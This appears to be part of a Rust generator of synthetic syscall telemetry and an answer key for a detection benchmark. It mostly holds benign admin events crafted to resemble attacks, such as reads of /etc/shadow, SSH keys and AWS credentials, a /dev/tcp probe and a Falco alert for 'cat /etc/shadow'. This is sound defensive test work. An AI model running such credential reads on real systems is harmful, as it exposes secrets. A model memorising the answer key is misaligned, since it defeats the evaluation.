        a(write_flags(ev(host, at(m, 20), "openat", "/lib/systemd/system/falco.service.dpkg-new", dpkg, uu), "O_WRONLY|O_CREAT|O_EXCL"), "admin:package_upgrade");
        a(ev(host, at(m, 21), "renameat", "/lib/systemd/system/falco.service", dpkg, uu), "admin:package_upgrade");
        a(write_flags(ev(host, at(m, 22), "openat", "/usr/bin/falco.dpkg-new", dpkg, uu), "O_WRONLY|O_CREAT|O_EXCL"), "admin:package_upgrade");
        a(ev(host, at(m, 30), "connect", "/run/systemd/private", (base + 5, "systemctl", "systemctl --quiet stop falco.service"), invoke), "admin:package_upgrade");
        a(write_flags(ev(host, at(m, 31), "openat", "/etc/passwd+", (base + 6, "useradd", "useradd --system --no-create-home --shell /usr/sbin/nologin falco"), post), "O_WRONLY|O_CREAT|O_EXCL"), "admin:package_upgrade");
        a(ev(host, at(m, 31), "renameat", "/etc/passwd", (base + 6, "useradd", "useradd --system --no-create-home --shell /usr/sbin/nologin falco"), post), "admin:package_upgrade");
        a(write_flags(ev(host, at(m, 32), "openat", "/etc/systemd/system/multi-user.target.wants/falco.service", (base + 7, "deb-systemd-hel", "/usr/bin/perl /usr/bin/deb-systemd-helper enable falco.service"), post), "O_WRONLY|O_CREAT"), "admin:package_upgrade");
        a(ev(host, at(m, 33), "symlinkat", "/etc/rc2.d/S01falco", (base + 8, "update-rc.d", "/usr/bin/perl /usr/sbin/update-rc.d falco defaults"), post), "admin:package_upgrade");
        a(write_flags(ev(host, at(m, 34), "openat", "/etc/ld.so.cache~", (base + 9, "ldconfig", "/sbin/ldconfig"), dpkg), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:package_upgrade");
    }
    // A deploy job on app-02: pip and npm, an install script fetching a prebuilt binary.
    let deploy = (42000, "deploy.sh", "/bin/bash /opt/deploy/deploy.sh");
    let pip = (42001, "pip", "/usr/bin/python3 /usr/local/bin/pip install -r /opt/app/requirements.txt");
    let npm = (42003, "npm", "npm ci");
    let inst = (42004, "sh", "sh -c node install.js");
    a(started("app-02", at(60, 0), deploy, cron), "admin:deploy");
    a(ev("app-02", at(60, 5), "connect", "10.0.6.20:41000->151.101.0.223:443", pip, deploy), "admin:deploy");
    a(started("app-02", at(60, 9), (42002, "sh", "/bin/sh -c python setup.py bdist_wheel"), pip), "admin:deploy");
    a(ev("app-02", at(61, 0), "connect", "10.0.6.20:41100->104.16.3.35:443", npm, deploy), "admin:deploy");
    a(ev("app-02", at(61, 9), "connect", "10.0.6.20:41200->185.199.108.133:443", (42005, "node", "node install.js"), inst), "admin:deploy");
    // Ansible from the control node 10.0.0.5: keys, sudoers, a user, systemd, cron.
    for (i, (host, ip)) in [("web-02", "10.0.6.10"), ("cache-01", "10.0.5.10")].into_iter().enumerate() {
        let m = 75 + 3 * i as i64;
        let base = 43000 + 100 * i as u32;
        let become_ = |n: u32, module: &'static str| -> (u32, &'static str, String) {
            (n, "sh", format!("/bin/sh -c echo BECOME-SUCCESS-qz; /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-17522/AnsiballZ_{module}.py"))
        };
        let module = |n: u32, m: &'static str| (n, "python3", format!("/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-17522/AnsiballZ_{m}.py"));
        let (b1, m1) = (become_(base + 1, "authorized_key"), module(base + 2, "authorized_key"));
        a(ev(host, at(m, 0), "accept", &format!("10.0.0.5:50210->{ip}:22"), (880, "sshd", "/usr/sbin/sshd -D"), init), "admin:ansible");
        a(write_flags(ev(host, at(m, 2), "openat", "/home/deploy/.ssh/authorized_keys", (m1.0, m1.1, &m1.2), (b1.0, b1.1, &b1.2)), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:ansible");
        let (b2, m2) = (become_(base + 3, "copy"), module(base + 4, "copy"));
        a(write_flags(ev(host, at(m, 5), "openat", "/etc/sudoers.d/.ansible_tmpk2", (m2.0, m2.1, &m2.2), (b2.0, b2.1, &b2.2)), "O_WRONLY|O_CREAT|O_EXCL"), "admin:ansible");
        a(ev(host, at(m, 6), "openat", "/etc/sudoers", (base + 5, "visudo", "visudo -cf /root/.ansible/tmp/ansible-tmp-17522/source"), (m2.0, m2.1, &m2.2)), "admin:ansible");
        a(ev(host, at(m, 6), "renameat", "/etc/sudoers.d/deploy", (m2.0, m2.1, &m2.2), (b2.0, b2.1, &b2.2)), "admin:ansible");
        let m3 = module(base + 6, "user");
        a(write_flags(ev(host, at(m, 9), "openat", "/etc/passwd+", (base + 7, "useradd", "/usr/sbin/useradd -m -s /bin/bash svc_backup"), (m3.0, m3.1, &m3.2)), "O_WRONLY|O_CREAT|O_EXCL"), "admin:ansible");
        a(ev(host, at(m, 9), "renameat", "/etc/shadow", (base + 7, "useradd", "/usr/sbin/useradd -m -s /bin/bash svc_backup"), (m3.0, m3.1, &m3.2)), "admin:ansible");
        let m4 = module(base + 8, "systemd");
        a(ev(host, at(m, 12), "connect", "/run/systemd/private", (base + 9, "systemctl", "/bin/systemctl daemon-reload"), (m4.0, m4.1, &m4.2)), "admin:ansible");
        let (b5, m5) = (become_(base + 10, "cron"), module(base + 11, "cron"));
        a(write_flags(ev(host, at(m, 15), "openat", "/etc/cron.d/certbot-renew", (m5.0, m5.1, &m5.2), (b5.0, b5.1, &b5.2)), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:ansible");
    }
    // Puppet on app-02, Chef on web-02, Salt on k8s-node-01.
    let puppet = (44000, "puppet", "/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --onetime --no-daemonize");
    a(ev("app-02", at(120, 0), "connect", "10.0.6.20:43000->10.0.0.6:8140", puppet, init), "admin:puppet");
    for (s, f) in [(5, "/etc/systemd/system/node_exporter.service"), (6, "/etc/profile.d/proxy.sh"), (7, "/etc/ssh/sshd_config")] {
        a(write_flags(ev("app-02", at(120, s), "openat", f, puppet, init), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:puppet");
    }
    a(ev("app-02", at(120, 9), "connect", "/run/systemd/private", (44001, "systemctl", "/bin/systemctl restart node_exporter"), puppet), "admin:puppet");
    let chef = (45000, "chef-client", "/opt/chef/embedded/bin/ruby --disable-gems /usr/bin/chef-client -d -i 1800");
    for (s, f) in [(0, "/etc/cron.d/chef-client"), (2, "/etc/init.d/chef-client")] {
        a(write_flags(ev("web-02", at(130, s), "openat", f, chef, init), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:chef");
    }
    a(ev("web-02", at(130, 4), "symlinkat", "/etc/rc2.d/S01chef-client", (45002, "update-rc.d", "/usr/bin/perl /usr/sbin/update-rc.d chef-client defaults"), (45001, "sh", "sh -c /usr/sbin/update-rc.d chef-client defaults")), "admin:chef");
    let salt = (46000, "salt-minion", "/usr/bin/python3 /usr/bin/salt-minion");
    for (s, f) in [(0, "/etc/cron.d/salt-highstate"), (3, "/root/.ssh/authorized_keys")] {
        a(write_flags(ev("k8s-node-01", at(110, s), "openat", f, salt, init), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:salt");
    }
    // Backups: restic (reads secrets, sends to S3), tar of /etc, retention, borg over ssh, rclone offsite.
    for (i, (host, ip)) in [("cache-01", "10.0.5.10"), ("k8s-node-01", "10.0.5.20")].into_iter().enumerate() {
        let base = 47000 + 100 * i as u32;
        let job = (base, "backup-restic.s", "/bin/bash /usr/local/sbin/backup-restic.sh");
        let restic = (base + 1, "restic", "restic backup /etc /root /home --exclude-caches");
        let tar = (base + 2, "tar", "tar czf /var/backups/etc-2025-07-11.tgz /etc");
        a(started(host, at(125, 0), job, cron), "admin:backup");
        for (s, f) in [(1, "/etc/shadow"), (2, "/root/.ssh/id_ed25519"), (3, "/root/.aws/credentials")] {
            a(ev(host, at(125, s), "openat", f, restic, job), "admin:backup");
        }
        a(ev(host, at(125, 9), "connect", &format!("{ip}:44000->52.218.100.12:443"), restic, job), "admin:backup");
        a(ev(host, at(126, 0), "openat", "/etc/shadow", tar, job), "admin:backup");
        a(write_flags(ev(host, at(126, 1), "openat", "/var/backups/etc-2025-07-11.tgz", tar, job), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:backup");
        a(ev(host, at(126, 5), "unlinkat", "/var/backups/etc-2025-07-04.tgz", (base + 3, "rm", "rm -f /var/backups/etc-2025-07-04.tgz"), job), "admin:backup");
    }
    a(ev("k8s-node-01", at(125, 4), "openat", "/var/lib/kubelet/pki/kubelet-client-current.pem", (47101, "restic", "restic backup /etc /root /home /var/lib/kubelet --exclude-caches"), (47100, "backup-restic.s", "/bin/bash /usr/local/sbin/backup-restic.sh")), "admin:backup");
    let borg = (47200, "borg", "/usr/bin/python3 /usr/bin/borg create ssh://backup@10.0.3.5/./repo::web-02-2025-07-11 /etc /home /var/www");
    a(ev("web-02", at(128, 0), "openat", "/etc/shadow", borg, cron), "admin:backup");
    a(ev("web-02", at(128, 1), "openat", "/root/.ssh/id_ed25519", (47201, "ssh", "ssh backup@10.0.3.5 borg serve --umask=077"), borg), "admin:backup");
    a(ev("web-02", at(128, 1), "connect", "10.0.6.10:45000->10.0.3.5:22", (47201, "ssh", "ssh backup@10.0.3.5 borg serve --umask=077"), borg), "admin:backup");
    a(ev("app-02", at(135, 0), "connect", "10.0.6.20:46000->52.218.100.12:443", (47300, "rclone", "rclone sync /var/backups remote:fleet-backups"), (47299, "backup-offsite", "/bin/sh /usr/local/sbin/backup-offsite")), "admin:backup");
    // Monitoring: zabbix checks, osquery reading shadow, a TLS certificate check, the SSM agent,
    // a blackbox probe sweep, cron health checks (one over loopback /dev/tcp).
    for (i, host) in ["web-02", "app-02", "cache-01", "k8s-node-01"].into_iter().enumerate() {
        let base = 48000 + 10 * i as u32;
        let check = (base, "sh", "sh -c netstat -an | grep -c ESTABLISHED");
        a(started(host, at(15 + i as i64, 0), check, (900, "zabbix_agentd", "/usr/sbin/zabbix_agentd: active checks #1")), "admin:monitoring");
        a(ev(host, at(15 + i as i64, 1), "openat", "/proc/net/tcp", (base + 1, "netstat", "netstat -an"), check), "admin:monitoring");
        a(ev(host, at(20 + i as i64, 0), "openat", "/etc/shadow", (910, "osqueryd", "/usr/bin/osqueryd --flagfile /etc/osquery/osquery.flags"), init), "admin:monitoring");
    }
    a(ev("web-02", at(40, 0), "connect", "10.0.6.10:47000->93.184.215.14:443", (48100, "openssl", "openssl s_client -connect www.example.com:443 -servername www.example.com"), (48099, "check_ssl_cert", "/bin/bash /usr/lib/nagios/plugins/check_ssl_cert -H www.example.com")), "admin:monitoring");
    a(ev("app-02", at(41, 0), "connect", "10.0.6.20:48000->169.254.169.254:80", (48200, "amazon-ssm-agen", "/usr/bin/amazon-ssm-agent"), init), "admin:monitoring");
    let probe = (48300, "blackbox_export", "/usr/local/bin/blackbox_exporter --config.file=/etc/blackbox.yml");
    for i in 0..25u32 {
        let fd = format!("10.0.6.20:{}->10.0.{}.{}:{}", 47100 + i, 5 + i % 2, 10 + i, [443, 6379, 22, 9100, 80][(i % 5) as usize]);
        a(ev("app-02", at(45, 0) + Duration::milliseconds(i64::from(i) * 900), "connect", &fd, probe, init), "admin:monitoring");
    }
    for (i, host) in ["web-02", "app-02"].into_iter().enumerate() {
        let hc = (48400 + i as u32, "sh", "/bin/sh -c curl -fsS -m 10 --retry 3 --data-raw ok https://hc-ping.com/3f1c2a");
        a(ev(host, at(5 + 30 * i as i64, 0), "connect", &format!("10.0.6.{}:49000->167.235.143.55:443", 10 + 10 * i), (48402 + i as u32, "curl", "curl -fsS -m 10 --retry 3 --data-raw ok https://hc-ping.com/3f1c2a"), hc), "admin:healthcheck");
    }
    a(ev("cache-01", at(6, 0), "connect", "127.0.0.1:50000->127.0.0.1:6379", (48410, "bash", "bash -c echo > /dev/tcp/127.0.0.1/6379"), cron), "admin:healthcheck");
    // Log rotation and retention, the journal vacuum, the nightly security audit.
    for (i, host) in ["web-02", "app-02", "cache-01", "k8s-node-01"].into_iter().enumerate() {
        let base = 48500 + 20 * i as u32;
        let rotate = (base, "logrotate", "/usr/sbin/logrotate /etc/logrotate.conf");
        let parts = (base + 1, "run-parts", "run-parts --report /etc/cron.daily");
        a(ev(host, at(i as i64, 0), "renameat", "/var/log/syslog", rotate, parts), "admin:logrotate");
        a(write_flags(ev(host, at(i as i64, 1), "openat", "/var/log/auth.log", rotate, parts), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:logrotate");
        a(ev(host, at(i as i64, 2), "unlinkat", "/var/log/auth.log.1", (base + 2, "gzip", "gzip -9 /var/log/auth.log.1"), rotate), "admin:logrotate");
        a(ev(host, at(i as i64, 3), "unlinkat", "/var/log/syslog.7.gz", rotate, parts), "admin:logrotate");
        a(started(host, at(i as i64, 4), (base + 3, "sh", "sh -c invoke-rc.d rsyslog rotate > /dev/null"), rotate), "admin:logrotate");
        let clean = (base + 4, "sh", "/bin/sh -c find /var/log -name *.gz -mtime +30 -delete");
        a(ev(host, at(10 + i as i64, 0), "unlinkat", "/var/log/nginx/access.log.31.gz", (base + 5, "find", "find /var/log -name *.gz -mtime +30 -delete"), clean), "admin:retention");
        a(ev(host, at(12 + i as i64, 0), "unlinkat", "/var/log/journal/5f2e/system@0001.journal", (base + 6, "journalctl", "journalctl --vacuum-time=14d"), cron), "admin:retention");
        let rk = (base + 7, "rkhunter", "/usr/bin/perl /usr/bin/rkhunter --cronjob --report-warnings-only");
        a(ev(host, at(180 + i as i64, 0), "openat", "/usr/bin", (base + 8, "find", "find / -xdev -perm -4000 -type f"), rk), "admin:audit");
        a(ev(host, at(180 + i as i64, 5), "openat", "/etc/shadow", rk, cron), "admin:audit");
    }
    // The on-call admin through the bastion: restart php, read logs, edit a site, archive its config.
    let sess = (48999, "sshd", "sshd: admin@pts/0");
    let bash = (49000, "bash", "-bash");
    a(ev("web-02", at(200, 0), "accept", "10.0.0.5:51000->10.0.6.10:22", (880, "sshd", "/usr/sbin/sshd -D"), init), "admin:oncall");
    a(ev("web-02", at(200, 2), "openat", "/home/admin/.bashrc", bash, sess), "admin:oncall");
    a(ev("web-02", at(201, 0), "openat", "/etc/sudoers", (49001, "sudo", "sudo systemctl restart php8.2-fpm"), bash), "admin:oncall");
    a(ev("web-02", at(201, 1), "connect", "/run/systemd/private", (49002, "systemctl", "systemctl restart php8.2-fpm"), (49001, "sudo", "sudo systemctl restart php8.2-fpm")), "admin:oncall");
    a(ev("web-02", at(202, 0), "openat", "/var/log/nginx/error.log", (49003, "less", "less /var/log/nginx/error.log"), bash), "admin:oncall");
    a(ev("web-02", at(203, 0), "openat", "/etc/nginx/sites-available/shop", (49004, "tar", "tar czf /tmp/nginx-conf.tgz /etc/nginx"), bash), "admin:oncall");
    a(write_flags(ev("web-02", at(204, 0), "openat", "/etc/nginx/sites-available/shop", (49005, "vim", "vim /etc/nginx/sites-available/shop"), bash), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:oncall");
    a(write_flags(ev("web-02", at(206, 0), "openat", "/home/admin/.bash_history", bash, sess), "O_WRONLY|O_CREAT|O_TRUNC"), "admin:oncall");
    v
}

/// Renders the SysArmor template exactly as sysdig `-p` does: no JSON escaping at all.
fn render_template(e: &Ev, evt_num: u64, event_time: DateTime<Utc>) -> String {
    format!(
        "{{\"event\":{{\"evt.num\":\"{evt_num}\",\"evt.time\":\"{}\",\"evt.type\":\"{}\",\"evt.args\":\"{}\",\"fd.name\":\"{}\",\"proc.pid\":\"{}\",\"proc.name\":\"{}\",\"proc.cmdline\":\"{}\",\"proc.ppid\":\"{}\",\"proc.pname\":\"{}\",\"proc.pcmdline\":\"{}\"}}}}",
        event_time.format("%Y-%m-%dT%H:%M:%S%.9f+0000"),
        e.evt_type,
        e.args,
        e.fd,
        e.pid,
        e.name,
        e.cmdline,
        e.ppid,
        e.pname,
        e.pcmdline
    )
}

#[derive(Serialize)]
struct PublishLine<'a> {
    subject: String,
    payload: &'a str,
}

/// All events in publish order, with their rendered payloads and the answer key.
fn build(cfg: &Config) -> (Vec<(String, String)>, Vec<AttackStep>) {
    let mut rng = Rng(cfg.seed);
    match cfg.scenario {
        Scenario::Incident => build_incident(cfg, &mut rng),
        Scenario::FleetNight => build_fleet_night(cfg, &mut rng),
    }
}

fn build_incident(cfg: &Config, rng: &mut Rng) -> (Vec<(String, String)>, Vec<AttackStep>) {
    let span_ms = 2 * 3600 * 1000; // 01:30 .. 03:30
    let mut events = attack();
    events.extend(nightly_backup());
    for _ in 0..cfg.noise {
        let (host, ip) = *rng.pick(&HOSTS);
        let at = t0() + Duration::milliseconds(rng.below(span_ms) as i64);
        events.push(noise_event(rng, host, host, ip, at));
    }
    // db-01's collector is down for 90 s: nothing from it in that window.
    let gap_from = t0() + Duration::minutes(70);
    let gap_to = gap_from + Duration::seconds(90);
    events
        .retain(|e| !(e.host == "db-01" && e.at >= gap_from && e.at < gap_to && e.step.is_none()));
    // A reused PID: a benign process held 23030 on web-01 an hour before the reverse shell.
    events.push(ev(
        "web-01",
        t0() + Duration::minutes(5),
        "openat",
        "/var/log/nginx/access.log.1",
        (
            23030,
            "logrotate",
            "/usr/sbin/logrotate /etc/logrotate.conf",
        ),
        (640, "cron", "/usr/sbin/cron -f"),
    ));
    // Shell metacharacters that break `-p` output: quotes and a newline in command lines.
    events.push(ev(
        "app-01",
        t0() + Duration::minutes(20),
        "openat",
        "/tmp/report.txt",
        (8800, "sh", "sh -c echo \"disk ok\" > /tmp/report.txt"),
        (640, "cron", "/usr/sbin/cron -f"),
    ));
    let hosts: Vec<&str> = HOSTS.iter().map(|(h, _)| *h).collect();
    let clocks = Clocks {
        hosts: &hosts,
        first_num: &[1000, 5000, 9000],
        skew_ms: &[0, 0, DB_SKEW_MS],
        // app-01's collector restarts: evt.num starts again at 1.
        restart: Some((1, t0() + Duration::minutes(75))),
    };
    let (mut out, key) = render(events, rng, &clocks);
    // A Falco alert about the shadow read, and a plain `sysdig -j` event, as other producers send them.
    let falco = serde_json::json!({
        "time": "2025-07-10T02:17:10.000000000Z", "rule": "Read sensitive file untrusted",
        "priority": "Warning", "source": "syscall", "hostname": "app-01",
        "output": "Sensitive file opened for reading by non-trusted program (file=/etc/shadow)",
        "tags": ["filesystem", "mitre_credential_access"],
        "output_fields": {"proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "proc.pid": 31270, "fd.name": "/etc/shadow"}
    });
    out.push(("events.sysdig.app-01".into(), falco.to_string()));
    let flat = serde_json::json!({"evt.num": 77, "evt.time": 1_752_112_800_000_000_000i64, "evt.type": "openat", "fd.name": "/etc/hosts", "proc.pid": 410, "proc.name": "systemd-resolve"});
    out.push(("events.sysdig.web-01".into(), flat.to_string()));
    (out, key)
}

fn build_fleet_night(cfg: &Config, rng: &mut Rng) -> (Vec<(String, String)>, Vec<AttackStep>) {
    let span_ms = 4 * 3600 * 1000; // 00:00 .. 04:00
    let mut events = second_incident();
    events.extend(admin_night());
    for _ in 0..cfg.noise {
        let (host, ip, role) = *rng.pick(&FLEET);
        let at = t1() + Duration::milliseconds(rng.below(span_ms) as i64);
        events.push(noise_event(rng, role, host, ip, at));
    }
    let hosts: Vec<&str> = FLEET.iter().map(|(h, _, _)| *h).collect();
    let clocks = Clocks {
        hosts: &hosts,
        first_num: &[2000, 6000, 10000, 14000],
        skew_ms: &[0, K8S_SKEW_MS, 0, 0],
        restart: None,
    };
    render(events, rng, &clocks)
}

/// How each host's collector numbers and times its events.
struct Clocks<'a> {
    hosts: &'a [&'a str],
    first_num: &'a [u64],
    skew_ms: &'a [i64],
    /// A collector that restarts (evt.num back to 1) at a time.
    restart: Option<(usize, DateTime<Utc>)>,
}

/// Renders events in time order, with the transport's faults on unlabelled ones (invalid and
/// repairable JSON, the worker's wrapper, duplicate publishes); returns the publish lines and
/// the answer key of the labelled events.
fn render(
    mut events: Vec<Ev>,
    rng: &mut Rng,
    clocks: &Clocks,
) -> (Vec<(String, String)>, Vec<AttackStep>) {
    events.sort_by_key(|e| e.at);
    let mut evt_nums: Vec<u64> = clocks.first_num.to_vec();
    let mut restarted = false;
    let mut out = Vec::with_capacity(events.len() + events.len() / 1000);
    let mut key = Vec::new();
    for e in &events {
        let h = clocks
            .hosts
            .iter()
            .position(|n| *n == e.host)
            .expect("known host");
        if let Some((host, at)) = clocks.restart {
            if h == host && !restarted && e.at >= at {
                evt_nums[h] = 0;
                restarted = true;
            }
        }
        evt_nums[h] += 1 + rng.below(3);
        let skew = Duration::milliseconds(clocks.skew_ms[h]);
        let event_time = e.at + skew + Duration::nanoseconds(rng.below(1_000_000) as i64);
        let mut payload = render_template(e, evt_nums[h], event_time);
        if let Some(s) = e.step {
            key.push(AttackStep {
                step: s,
                benign: s.starts_with("admin:"),
                collector_id: e.host,
                evt_num: evt_nums[h],
                proc_name: e.name.clone(),
                fd_name: e.fd.clone(),
            });
        } else if rng.chance(800) {
            // An unescaped quote inside a command line (repairable).
            payload = payload.replacen(
                "\"proc.cmdline\":\"",
                "\"proc.cmdline\":\"sh -c \"quoted\" ",
                1,
            );
        } else if rng.chance(150) {
            // A newline inside the arguments (repairable).
            payload = payload.replacen("res=", "res=\n", 1);
        } else if rng.chance(100) {
            // A message truncated in transit (not repairable).
            payload.truncate(payload.len() / 2);
        }
        let subject = format!("events.sysdig.{}", e.host);
        if e.step.is_none() && rng.chance(300) {
            // A worker re-published the event in its wrapper shape.
            let wrapped = serde_json::json!({"raw_data": payload, "collector_id": e.host, "hostname": format!("{}.prod.example", e.host)});
            out.push((subject.clone(), wrapped.to_string()));
            continue;
        }
        if e.step.is_none() && rng.chance(500) {
            // A duplicate publish: same payload under two stream sequences.
            out.push((subject.clone(), payload.clone()));
        }
        out.push((subject, payload));
    }
    (out, key)
}

/// Writes the sample as NDJSON publish lines; returns the number of lines.
pub fn write_ndjson(cfg: &Config, w: &mut dyn Write) -> io::Result<u64> {
    let (lines, _) = build(cfg);
    for (subject, payload) in &lines {
        serde_json::to_writer(
            &mut *w,
            &PublishLine {
                subject: subject.clone(),
                payload,
            },
        )?;
        w.write_all(b"\n")?;
    }
    Ok(lines.len() as u64)
}

/// The answer key: every attack event with its collector and `evt.num`.
pub fn attack_steps(cfg: &Config) -> Vec<AttackStep> {
    build(cfg).1.into_iter().filter(|s| !s.benign).collect()
}

/// Every labelled event: attack steps and (`benign`) the administration that looks like them.
pub fn labelled(cfg: &Config) -> Vec<AttackStep> {
    build(cfg).1
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lake::decode::{decode, Status};

    #[test]
    fn deterministic_and_mostly_noise() {
        let cfg = Config {
            noise: 50_000,
            seed: 7,
            scenario: Scenario::Incident,
        };
        let (a, key) = build(&cfg);
        let (b, _) = build(&cfg);
        assert_eq!(a, b);
        assert!(key.len() >= 35 && key.len() <= 45, "{}", key.len());
        assert!((key.len() as f64) / (a.len() as f64) < 0.001);
        let statuses: Vec<Status> = a.iter().map(|(_, p)| decode(p.as_bytes()).status).collect();
        let invalid = statuses.iter().filter(|s| **s == Status::Invalid).count();
        let repaired = statuses.iter().filter(|s| **s == Status::Repaired).count();
        assert!(
            invalid > 0 && repaired > 0,
            "invalid {invalid} repaired {repaired}"
        );
    }
}
